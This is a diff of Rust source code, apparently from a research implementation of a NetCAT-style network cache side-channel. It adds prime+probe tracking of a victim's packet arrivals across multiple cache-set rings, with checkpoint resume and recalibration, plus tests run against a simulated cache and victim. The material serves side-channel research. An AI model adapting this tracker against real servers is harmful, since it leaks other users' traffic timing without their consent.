-            if self.rpp.prime(&self.pattern[0]).is_err() {
+            if self.rpp.prime(&first).is_err() {
                 err_cnt += 1;
                 continue;
             }
@@ -300,83 +997,390 @@ where
                 err_cnt += 1;
                 continue;
             }
-            match self.rpp.probe(&self.pattern[0]) {
+            match self.rpp.probe(&first) {
                 Ok(Activated(_)) => break,
                 Err(_) => err_cnt += 1,
                 _ => continue,
             }
         }
 
-        // Then we return the next one, as we expect it to be filled next.
-        // Therefore, it corresponds to the starting pointer of ring buffer.
-        Ok(1)
+        // The first set is filled, so the next activation is expected
+        // right after it.
+        Ok(0)
     }
 
-    fn measure(&mut self, cnt: usize) -> Result<()> {
-        let init_pos = self.get_init_pos()?;
-        let mut ctx = TrackingContext::new(init_pos);
-        let timer = Instant::now();
+    // Records measurements until the limit is reached or tracking is stopped.
+    // `done` counts the recorded measurements over the restarts.
+    fn measure(
+        &mut self,
+        limit: TrackingLimit,
+        started: Instant,
+        done: &mut usize,
+    ) -> Result<StopReason> {
+        let deadline = match limit {
+            TrackingLimit::Duration(duration) => Some(started + duration),
+            TrackingLimit::Count(_) => None,
+        };
+        let mut state = match self.start_measuring(deadline) {
+            Ok(state) => state,
+            // the time is up before the victim is heard from
+            Err(_) if limit.is_reached(*done, started) => return Ok(StopReason::Completed),
+            Err(e) => return Err(e),
+        };
 
-        for _ in 0..cnt {
-            let mut probe_res;
-            let es: Vec<SetCode> = self.pattern.window(ctx.pos()).copied().collect();
-            self.rpp.prime_all(&es)?;
+        loop {
+            if self.is_stopped() {
+                self.save_checkpoint(&state, *done)?;
+                return Ok(StopReason::Stopped);
+            }
+            if limit.is_reached(*done, started) {
+                return Ok(StopReason::Completed);
+            }
+
+            // nothing is measured, if tracking is stopped or the time is up
+            let entry = match self.measure_next(&mut state, deadline)? {
+                Some(entry) => entry,
+                None => continue,
+            };
+            self.output.record(entry)?;
+            *done += 1;
+
+            if self.checkpoints.as_ref().map_or(false, |c| *done % c.every == 0) {
+                self.save_checkpoint(&state, *done)?;
+            }
+
+            if let Some(event) = self.recalibrate_if_due(state.done)? {
+                self.output.event(&event)?;
+            }
+        }
+    }
+
+    // Records arrivals on the sets until the limit is reached or tracking is stopped.
+    // The sets are primed once, as probing primes them again.
+    fn listen(
+        &mut self,
+        sets: &[SetCode],
+        places: &[(RingId, PatternIdx)],
+        limit: TrackingLimit,
+        started: Instant,
+        done: &mut usize,
+    ) -> Result<StopReason>
+    where
+        R: Record<Arrival>,
+    {
+        self.rpp.set_probe_mode(self.info.measure.tracking);
+        self.rpp.prime_all(sets)?;
 
-            loop {
-                // We should synchronize after every two packets or if the
-                // previous synchronization failed. In order to syncronize
-                // we need to send our own packet to the server and then
-                // see if it activates the expected cache set.
-                if ctx.should_inject() {
-                    self.sender.send_packet()?;
-                    ctx.inject();
+        loop {
+            for (set_code, &(ring, pos)) in sets.iter().zip(places.iter()) {
+                if self.is_stopped() {
+                    return Ok(StopReason::Stopped);
                 }
-                // MAYBE make a newtype for probe_results
-                probe_res = self.rpp.probe_all(&es)?;
-                // If we measure an activation or injected a packet, then
-                // we stop. Any activation in the window should be registered.
-                // If the packet got injected, then it is the syncroniztion phase
-                // and we should deside on how to handle it
-                if has_activation(&probe_res) || ctx.is_injected() {
-                    break;
+                if limit.is_reached(*done, started) {
+                    return Ok(StopReason::Completed);
+                }
+
+                let probe_res = self.rpp.probe(set_code)?;
+                self.with_stats(|stats| stats.record_probe(&probe_res));
+                if let Activated(probe) = probe_res {
+                    let arrival = Arrival {
+                        elapsed: self.started.elapsed().as_nanos() as Time,
+                        ring,
+                        set: *set_code,
+                        confidence: probe.confidence,
+                    };
+                    self.with_stats(|stats| stats.record_arrival(ring, pos));
+                    Record::<Arrival>::record(&mut self.output, arrival)?;
+                    *done += 1;
+
+                    if let Some(event) = self.recalibrate_if_due(*done)? {
+                        Record::<Arrival>::event(&mut self.output, &event)?;
+                        self.rpp.prime_all(sets)?;
+                    }
                 }
             }
+        }
+    }
 
-            // if the the *pos* set is activated (which we expect to be activated)
-            // then the synchronization is not really needed, and we tacke the next
-            // position in the pattern.
-            // To get window index, corresponding to the current position, we need
-            // to devide the window length by 2 and add one.
-            if probe_res[(es.len() >> 1) + 1].is_activated() && ctx.is_injected() {
-                ctx.sync_hit(self.pattern.next_pos(ctx.pos()));
-            // if we did not register activation of the *pos* set, then we should
-            // recover the position from the probes.
-            } else if ctx.is_injected() {
-                ctx.sync_miss(self.pattern.recover_next(ctx.pos(), &probe_res)?);
-            // this case means that we registered some activation and not synchronizing.
-            // we need to save this measurement.
-            } else {
-                ctx.unsynced_meaurement();
+    // Finds the initial position in the pattern of each ring. A resumed session
+    // continues the checkpointed contexts, but only once: after an error the
+    // positions are found anew, unless the deadline passes.
+    fn start_measuring(&mut self, deadline: Option<Instant>) -> Result<Measuring> {
+        self.rpp.set_probe_mode(self.info.measure.tracking);
+        let sync = self.info.sync;
+        let ctxs = match self.resumed.take() {
+            Some(resumed) => resumed
+                .contexts
+                .into_iter()
+                .map(TrackingContext::resumed)
+                .collect(),
+            None => (0..self.patterns.len())
+                .map(|ring| Ok(TrackingContext::new(self.get_init_pos(ring, deadline)?, sync)))
+                .collect::<Result<Vec<_>>>()?,
+        };
+
+        Ok(Measuring {
+            ctxs,
+            next_ring: 0,
+            done: 0,
+        })
+    }
+
+    // Takes a single measurement. The windows of all rings are primed, then
+    // probed in turns, until one of the rings gets a measurement. Gives up with
+    // nothing, if tracking is stopped or the deadline passes in the meantime.
+    fn measure_next(
+        &mut self,
+        state: &mut Measuring,
+        deadline: Option<Instant>,
+    ) -> Result<Option<Measurement>> {
+        let mut windows: Vec<Vec<SetCode>> = self
+            .patterns
+            .iter()
+            .zip(state.ctxs.iter())
+            .map(|(pattern, ctx)| {
+                pattern
+                    .window(ctx.pos(), self.info.window)
+                    .copied()
+                    .collect()
+            })
+            .collect();
+        for es in windows.iter() {
+            self.rpp.prime_all(es)?;
+        }
+
+        let mut ring;
+        let mut probe_res;
+        loop {
+            if self.is_stopped() || deadline.map_or(false, |d| Instant::now() >= d) {
+                return Ok(None);
             }
 
-            self.save(
-                probe_res,
-                ctx.sync_status(),
-                timer.elapsed().as_nanos() as Time,
-            )?;
+            ring = state.next_ring;
+            state.next_ring = (ring + 1) % windows.len();
+            let ctx = &mut state.ctxs[ring];
+            let es = &windows[ring];
+
+            // We synchronize as the policy decides or if the previous
+            // synchronization failed. In order to syncronize we need to
+            // send our own packet to the server and then see if it
+            // activates the expected cache set.
+            if ctx.should_inject() {
+                self.sender.send_packet()?;
+                ctx.inject();
+            }
+            // MAYBE make a newtype for probe_results
+            probe_res = self.rpp.probe_all(es)?;
+            // If we measure an activation or injected a packet, then
+            // we stop. Any activation in the window should be registered.
+            // If the packet got injected, then it is the syncroniztion phase
+            // and we should deside on how to handle it
+            if has_activation(&probe_res) || ctx.is_injected() {
+                break;
+            }
         }
 
-        Ok(())
+        let elapsed = self.started.elapsed().as_nanos() as Time;
+        let timestamp = SystemTime::now()
+            .duration_since(UNIX_EPOCH)
+            .map(|t| t.as_nanos() as Time)
+            .unwrap_or(0);
+
+        let ctx = &mut state.ctxs[ring];
+        let pattern = &self.patterns[ring];
+        let pos = ctx.pos();
+        let injected = ctx.is_injected();
+        let center = window_center(windows[ring].len());
+        // the position of the first set in the window
+        let first = (pos as i64 - center as i64).rem_euclid(pattern.len() as i64) as usize;
+
+        // if the set after *pos* is activated (which we expect to be activated)
+        // then the synchronization is not really needed, and we tacke the next
+        // position in the pattern.
+        // The current position is at the center of the window, so the expected
+        // set is right after the center.
+        if probe_res[center + 1].is_activated() && ctx.is_injected() {
+            ctx.sync_hit(pattern.next_pos(ctx.pos()));
+        // if we did not register activation of the *pos* set, then we should
+        // recover the position from the probes.
+        } else if ctx.is_injected() {
+            match pattern.recover_next(ctx.pos(), &probe_res) {
+                Ok(pos) => ctx.sync_miss(pos),
+                Err(e) => {
+                    self.with_stats(|stats| stats.recover_failures += 1);
+                    return Err(e);
+                }
+            };
+        // this case means that we registered some activation and not synchronizing.
+        // we need to save this measurement.
+        } else {
+            ctx.unsynced_meaurement();
+        }
+
+        state.done += 1;
+        self.with_stats(|stats| stats.record(ring, first, &probe_res, ctx.sync_status()));
+
+        Ok(Some(Measurement {
+            version: MEASUREMENT_VERSION,
+            timestamp,
+            elapsed,
+            ring,
+            pos,
+            sets: windows.swap_remove(ring),
+            injected,
+            sync: ctx.sync_status(),
+            probes: probe_res,
+        }))
     }
 
-    #[inline(always)]
-    fn save(
-        &mut self,
-        probes: Vec<ProbeResult<Latencies>>,
-        stat: SyncStatus,
-        timestamp: Time,
-    ) -> Result<()> {
-        self.output.record((probes, stat, timestamp))
+    // Saves a checkpoint, if they are configured. The output is flushed first,
+    // so that the checkpoint covers everything, recorded so far.
+    fn save_checkpoint(&mut self, state: &Measuring, done: usize) -> Result<()> {
+        let (path, output) = match &self.checkpoints {
+            Some(config) => (config.path.clone(), config.output.clone()),
+            None => return Ok(()),
+        };
+        Record::<Measurement>::flush(&mut self.output)?;
+
+        let checkpoint = Checkpoint {
+            version: CHECKPOINT_VERSION,
+            info: self.info.clone(),
+            patterns: self.saved_patterns()?,
+            classifier: self.rpp.classifier_state(),
+            contexts: state.ctxs.clone(),
+            measurements: done,
+            elapsed: self.started.elapsed().as_nanos() as Time,
+            output,
+            output_offset: Record::<Measurement>::offset(&self.output),
+        };
+        checkpoint.save(path)
+    }
+
+    // Recalibrates, if it is time to
+    fn recalibrate_if_due(&mut self, done: usize) -> Result<Option<Event>> {
+        let every = self.info.drift.recalibrate_every;
+        if every == 0 || done % every != 0 {
+            return Ok(None);
+        }
+
+        self.recalibrate().map(Some)
+    }
+
+    /// Retrains the classifier and raises the drift alarm if hits and misses
+    /// can no longer be told apart. The window is primed again on the next measurement.
+    fn recalibrate(&mut self) -> Result<Event> {
+        let drift = self.info.drift;
+        let calibration = self.rpp.recalibrate(drift.samples)?;
+
+        match calibration.overlap {
+            Some(overlap) if overlap > drift.max_overlap => {
+                if !self.quite {
+                    eprintln!(
+                        "Online Tracker: {}",
+                        style(format!(
+                            "DRIFT ALARM: {:.1}% of calibration timings are misclassified",
+                            overlap * 100.0
+                        ))
+                        .red()
+                    );
+                }
+                Ok(Event::DriftAlarm(calibration))
+            }
+            _ => Ok(Event::Recalibrated(calibration)),
+        }
+    }
+}
+
+// Where a resumed session continues
+struct Resumed {
+    contexts: Vec<TrackingContext>,
+    measurements: usize,
+    elapsed: Time,
+    classifier: Option<ClassifierState>,
+    layout: Option<RingLayout>,
+}
+
+// State of a running measurement
+struct Measuring {
+    // one context per ring
+    ctxs: Vec<TrackingContext>,
+    // the ring to be probed next
+    next_ring: RingId,
+    done: usize,
+}
+
+/// Iterator over the measurements. Tracking goes on as long as the measurements
+/// are taken or until the stop flag of the tracker is set, thus it can be stopped
+/// at any time. Yields the session metadata first, then measurements and session
+/// events as they appear.
+///
+/// The measurements are not recorded to the output of the tracker. On an error
+/// the measurement restarts from the initial position, as `OnlineTracker::track` does.
+/// If it fails too many times, the error is yielded and the iteration stops.
+pub struct Measurements<'a, C, R, S> {
+    tracker: &'a mut OnlineTracker<C, R, S>,
+    state: Option<Measuring>,
+    pending: Option<Message<Measurement>>,
+    err_cnt: usize,
+    done: bool,
+}
+
+impl<'a, C, R, S> Measurements<'a, C, R, S>
+where
+    C: CacheConnector<Item = Contents>,
+    R: Record<Measurement>,
+    S: PacketSender,
+{
+    // Gives nothing, if tracking is stopped
+    fn try_next(&mut self) -> Result<Option<Message<Measurement>>> {
+        let tracker = &mut *self.tracker;
+        if self.state.is_none() {
+            self.state = Some(tracker.start_measuring(None)?);
+        }
+        let state = self.state.as_mut().unwrap();
+
+        let entry = match tracker.measure_next(state, None)? {
+            Some(entry) => entry,
+            None => return Ok(None),
+        };
+        self.pending = tracker.recalibrate_if_due(state.done)?.map(Message::Event);
+
+        Ok(Some(Message::Data(entry)))
+    }
+}
+
+impl<'a, C, R, S> Iterator for Measurements<'a, C, R, S>
+where
+    C: CacheConnector<Item = Contents>,
+    R: Record<Measurement>,
+    S: PacketSender,
+{
+    type Item = Result<Message<Measurement>>;
+
+    fn next(&mut self) -> Option<Self::Item> {
+        if self.done || self.tracker.is_stopped() {
+            return None;
+        }
+        if let Some(msg) = self.pending.take() {
+            return Some(Ok(msg));
+        }
+
+        loop {
+            match self.try_next() {
+                Ok(msg) => return msg.map(Ok),
+                Err(_) if self.tracker.is_stopped() => return None,
+                Err(e) => {
+                    self.state = None;
+                    self.err_cnt += 1;
+                    self.tracker.with_stats(|stats| stats.retries += 1);
+
+                    if self.err_cnt > MAX_FAIL_CNT {
+                        self.done = true;
+                        return Some(Err(e));
+                    }
+                }
+            }
+        }
     }
 }
 
@@ -384,6 +1388,11 @@ where
 mod tests {
     use super::pattern::Pattern;
     use super::*;
+    use crate::connection::sim::{fixtures, SimulatedCacheConnector};
+    use crate::connection::Address;
+    use crate::output::file::JsonLinesRecorder;
+    use std::cell::RefCell;
+    use std::rc::Rc;
 
     #[test]
     fn pattern_finding() {
@@ -428,7 +1437,327 @@ mod tests {
         let mut hm = HashMap::new();
         hm.insert(0, measurements);
 
-        let pattern = Pattern::find(hm).expect("No pattern found");
+        let err = Pattern::find_all(hm.clone(), 0.99).expect_err("Weak pattern is accepted");
+        assert!(matches!(err, Error::PatternAmbiguous { .. }), "The score is not reported");
+
+        let mut patterns = Pattern::find_all(hm, DEFAULT_MIN_PATTERN_SCORE).expect("No pattern found");
+        assert_eq!(patterns.len(), 1, "Noise is taken for a pattern");
+        let (pattern, score) = patterns.pop().unwrap();
         assert_eq!(expected, pattern, "The pattern is incorrect");
+        assert_eq!(score.period, 4, "Wrong ring length");
+        assert!(score.score < 1.0, "Noise is not reflected in the score");
+    }
+
+    #[test]
+    fn multiple_rings_finding() {
+        let ring = |codes: &[usize]| -> Vec<Option<ColoredSetCode>> {
+            codes.iter().cycle().take(codes.len() * REPEATINGS).map(|&c| Some(c)).collect()
+        };
+
+        let mut hm = HashMap::new();
+        hm.insert(3, ring(&[5, 6, 7]));
+        hm.insert(1, ring(&[1, 2]));
+        hm.insert(2, vec![None; 4 * REPEATINGS]);
+
+        let patterns: Vec<Pattern> = Pattern::find_all(hm, DEFAULT_MIN_PATTERN_SCORE)
+            .expect("No pattern found")
+            .into_iter()
+            .map(|(pattern, _)| pattern)
+            .collect();
+        let expected: Vec<Pattern> = vec![
+            vec![SetCode(1, 1), SetCode(1, 2)].into(),
+            vec![SetCode(3, 5), SetCode(3, 6), SetCode(3, 7)].into(),
+        ];
+        assert_eq!(expected, patterns, "Rings are not found or not ordered by color");
+
+        let mut silent = HashMap::new();
+        silent.insert(0, vec![None; 2 * REPEATINGS]);
+        assert!(
+            Pattern::find_all(silent, DEFAULT_MIN_PATTERN_SCORE).is_err(),
+            "Pattern found in silence"
+        );
+    }
+
+    #[test]
+    fn tracking_limits() {
+        let started = Instant::now();
+        assert!(!TrackingLimit::Count(2).is_reached(1, started));
+        assert!(TrackingLimit::Count(2).is_reached(2, started));
+        assert!(TrackingLimit::Count(0).is_reached(0, started));
+
+        let limit = TrackingLimit::Duration(Duration::from_millis(20));
+        assert!(!limit.is_reached(100, started), "Time limit reached too early");
+        std::thread::sleep(Duration::from_millis(25));
+        assert!(limit.is_reached(0, started), "Time limit is not reached");
+    }
+
+    struct SilentSender;
+
+    impl PacketSender for SilentSender {
+        fn send_packet(&mut self) -> Result<()> {
+            Ok(())
+        }
+    }
+
+    // A victim on the simulated cache, which receives each packet into the next
+    // line of its ring
+    struct SimVictim {
+        cache: SimulatedCacheConnector,
+        ring: Vec<Address>,
+        next: usize,
+    }
+
+    // The victim, shared by the connection and the sender of a tracker
+    #[derive(Clone)]
+    struct SharedVictim(Rc<RefCell<SimVictim>>);
+
+    impl SharedVictim {
+        // Places a line of the ring into the set of each position of the saved pattern,
+        // so that the packets activate the pattern in order
+        fn new(cparams: &CacheParams, saved: &SavedPatterns) -> SharedVictim {
+            // lines this far apart share a cache set
+            let stride = cparams.cache_size() / cparams.lines_per_set();
+            let saved = &saved.rings[0];
+            let mut used: HashSet<Address> = saved.sets.iter().flatten().copied().collect();
+            let ring = saved
+                .pattern
+                .iter()
+                .map(|&idx| {
+                    let first = saved.sets[idx][0];
+                    let line = (1..).map(|k| first + k * stride).find(|line| !used.contains(line));
+                    let line = line.unwrap();
+                    used.insert(line);
+                    line
+                })
+                .collect();
+
+            SharedVictim(Rc::new(RefCell::new(SimVictim {
+                cache: SimulatedCacheConnector::new(cparams),
+                ring,
+                next: 0,
+            })))
+        }
+    }
+
+    impl CacheConnector for SharedVictim {
+        type Item = Contents;
+
+        fn cache(&mut self, addr: Address) -> Result<()> {
+            self.0.borrow_mut().cache.cache(addr)
+        }
+
+        fn time_access(&mut self, addr: Address) -> Result<Time> {
+            self.0.borrow_mut().cache.time_access(addr)
+        }
+
+        fn flush(&mut self, addr: Address) -> Result<bool> {
+            self.0.borrow_mut().cache.flush(addr)
+        }
+
+        fn reserve(&mut self, size: usize) {
+            self.0.borrow_mut().cache.reserve(size)
+        }
+    }
+
+    impl PacketSender for SharedVictim {
+        fn send_packet(&mut self) -> Result<()> {
+            let mut victim = self.0.borrow_mut();
+            let line = victim.ring[victim.next];
+            victim.next = (victim.next + 1) % victim.ring.len();
+            victim.cache.cache(line)
+        }
+    }
+
+    // A ring over two sets of the simulated cache
+    fn simulated_patterns(cparams: CacheParams) -> SavedPatterns {
+        simulated_ring(cparams, vec![SetCode(2, 5), SetCode(2, 7), SetCode(2, 5)])
+    }
+
+    // A ring over the given sets of the simulated cache
+    fn simulated_ring(cparams: CacheParams, codes: Vec<SetCode>) -> SavedPatterns {
+        let built = Rpp::with_params(SimulatedCacheConnector::new(&cparams), true, cparams);
+        let patterns: Vec<Pattern> = vec![codes.into()];
+        let scores = [PatternScore::default()];
+        SavedPatterns::new(cparams, &patterns, &scores, |c| built.eviction_set(c))
+    }
+
+    #[test]
+    fn passive_tracking() {
+        let cparams = fixtures::cache_params();
+        let saved = simulated_patterns(cparams);
+
+        let mut tracker = OnlineTrackerBuilder::new()
+            .set_conn(SimulatedCacheConnector::new(&cparams))
+            .set_sender(SilentSender)
+            .set_output(JsonLinesRecorder::new(Vec::new()))
+            .set_cache(cparams)
+            .set_quite(true)
+            .set_saved_patterns(saved)
+            .finalize()
+            .unwrap();
+        // the saved patterns are taken without verification
+        tracker.init = true;
+
+        let sets = tracker.pattern_sets();
+        assert_eq!(sets, vec![SetCode(2, 5), SetCode(2, 7)], "Saved sets are renamed");
+
+        let limit = TrackingLimit::Duration(Duration::from_millis(20));
+        assert!(
+            tracker.track_arrivals(limit, &[SetCode(1, 0)]).is_err(),
+            "Unknown set is tracked"
+        );
+
+        let footer = tracker.track_arrivals(limit, &sets).unwrap();
+        assert_eq!(footer.stop, StopReason::Completed, "Tracking is not completed");
+        assert_eq!(footer.measurements, 0, "Arrivals without victim packets");
+        assert!(footer.stats.latency_cnt > 0, "Nothing is probed");
+    }
+
+    #[test]
+    fn silent_victim_deadline() {
+        let cparams = fixtures::cache_params();
+
+        let mut tracker = OnlineTrackerBuilder::new()
+            .set_conn(SimulatedCacheConnector::new(&cparams))
+            .set_sender(SilentSender)
+            .set_output(JsonLinesRecorder::new(Vec::new()))
+            .set_cache(cparams)
+            .set_quite(true)
+            .set_sync_policy(SyncPolicy::Never)
+            .set_saved_patterns(simulated_patterns(cparams))
+            .finalize()
+            .unwrap();
+        tracker.init = true;
+        let limit = TrackingLimit::Duration(Duration::from_millis(20));
+
+        // the initial position is never found
+        let footer = tracker.track_until(limit).unwrap();
+        assert_eq!(footer.stop, StopReason::Completed, "Tracking is not completed");
+        assert_eq!(footer.measurements, 0, "Measurements without victim packets");
+
+        // the windows are probed, but nothing gets activated
+        tracker.resumed = Some(Resumed {
+            contexts: vec![TrackingContext::new(0, SyncPolicy::default())],
+            measurements: 0,
+            elapsed: 0,
+            classifier: None,
+            layout: None,
+        });
+        let footer = tracker.track_until(limit).unwrap();
+        assert_eq!(footer.stop, StopReason::Completed, "Tracking is not completed");
+        assert_eq!(footer.measurements, 0, "Measurements without victim packets");
+    }
+
+    #[test]
+    fn checkpoint_resume() {
+        let cparams = fixtures::cache_params();
+        let path = std::env::temp_dir().join(format!("netcat-resume-{}.json", std::process::id()));
+        let config = CheckpointConfig {
+            path: path.clone(),
+            every: 10,
+            output: Some("out.json".to_string()),
+        };
+
+        let mut tracker = OnlineTrackerBuilder::new()
+            .set_conn(SimulatedCacheConnector::new(&cparams))
+            .set_sender(SilentSender)
+            // continues an output of 2 bytes
+            .set_output(JsonLinesRecorder::with_offset(Vec::new(), 2))
+            .set_cache(cparams)
+            .set_quite(true)
+            .set_window_size(6)
+            .set_saved_patterns(simulated_patterns(cparams))
+            .set_checkpoints(config)
+            .finalize()
+            .unwrap();
+        tracker.init = true;
+
+        let state = Measuring {
+            ctxs: vec![TrackingContext::new(2, SyncPolicy::default())],
+            next_ring: 0,
+            done: 0,
+        };
+        tracker.save_checkpoint(&state, 42).unwrap();
+        let checkpoint = Checkpoint::from_file(&path);
+        std::fs::remove_file(&path).unwrap();
+        let checkpoint = checkpoint.expect("Checkpoint is not saved");
+
+        let positions: Vec<_> = checkpoint.contexts.iter().map(|ctx| ctx.pos()).collect();
+        assert_eq!(positions, vec![2], "Wrong checkpointed positions");
+        assert!(checkpoint.classifier.is_some(), "Classifier is not checkpointed");
+        assert_eq!(checkpoint.measurements, 42, "Wrong number of measurements");
+        assert_eq!(checkpoint.output_offset, Some(2), "Wrong output offset");
+        assert_eq!(checkpoint.output.as_deref(), Some("out.json"), "Output is not noted");
+
+        let mut resumed = OnlineTrackerBuilder::new()
+            .set_conn(SimulatedCacheConnector::new(&cparams))
+            .set_sender(SilentSender)
+            .set_output(JsonLinesRecorder::new(Vec::new()))
+            .set_quite(true)
+            .resume_from(checkpoint)
+            .finalize()
+            .unwrap();
+        assert_eq!(resumed.info.window, 6, "Settings are not resumed");
+        assert_eq!(resumed.info.cache, cparams, "Cache parameters are not resumed");
+
+        // nothing is activated without victim packets, and the patterns must not be
+        // located anew
+        let err = resumed.init().expect_err("Silent patterns are verified");
+        assert!(matches!(err, Error::ResumeFailed(_)), "Patterns are located anew");
+    }
+
+    #[test]
+    fn resumed_sets() {
+        let cparams = fixtures::cache_params();
+        // each set is probed once in a window
+        let codes = vec![SetCode(2, 5), SetCode(2, 7), SetCode(2, 9)];
+        let saved = simulated_ring(cparams, codes.clone());
+        let victim = SharedVictim::new(&cparams, &saved);
+        let path = std::env::temp_dir().join(format!("netcat-resumed-{}.json", std::process::id()));
+        let config = CheckpointConfig {
+            path: path.clone(),
+            every: 5,
+            output: None,
+        };
+
+        let mut tracker = OnlineTrackerBuilder::new()
+            .set_conn(victim.clone())
+            .set_sender(victim.clone())
+            .set_output(Vec::new())
+            .set_cache(cparams)
+            .set_quite(true)
+            .set_window_size(3)
+            .set_sync_policy(SyncPolicy::EveryN(0))
+            .set_saved_patterns(saved)
+            .set_checkpoints(config)
+            .finalize()
+            .unwrap();
+        tracker.init = true;
+        tracker.track_until(TrackingLimit::Count(10)).unwrap();
+        let checkpoint = Checkpoint::from_file(&path);
+        std::fs::remove_file(&path).unwrap();
+
+        let mut resumed = OnlineTrackerBuilder::new()
+            .set_conn(victim.clone())
+            .set_sender(victim)
+            .set_output(Vec::new())
+            .set_quite(true)
+            .resume_from(checkpoint.expect("Checkpoint is not saved"))
+            .finalize()
+            .unwrap();
+        resumed.init = true;
+        let footer = resumed.track_until(TrackingLimit::Count(15)).unwrap();
+        assert_eq!(footer.measurements, 15, "Measurements are not continued");
+
+        let sets = |measurements: &[Measurement]| -> HashSet<SetCode> {
+            measurements.iter().flat_map(|m| m.sets.iter().copied()).collect()
+        };
+        assert_eq!(tracker.output.len(), 10, "Wrong number of measurements");
+        assert_eq!(sets(&tracker.output), sets(&resumed.output), "Resumed sets are renamed");
+        assert_eq!(sets(&resumed.output), codes.into_iter().collect(), "Saved sets are renamed");
+        assert!(
+            resumed.output.iter().all(|m| m.sync == SyncStatus::Hit),
+            "Resumed position is lost"
+        );
     }
 }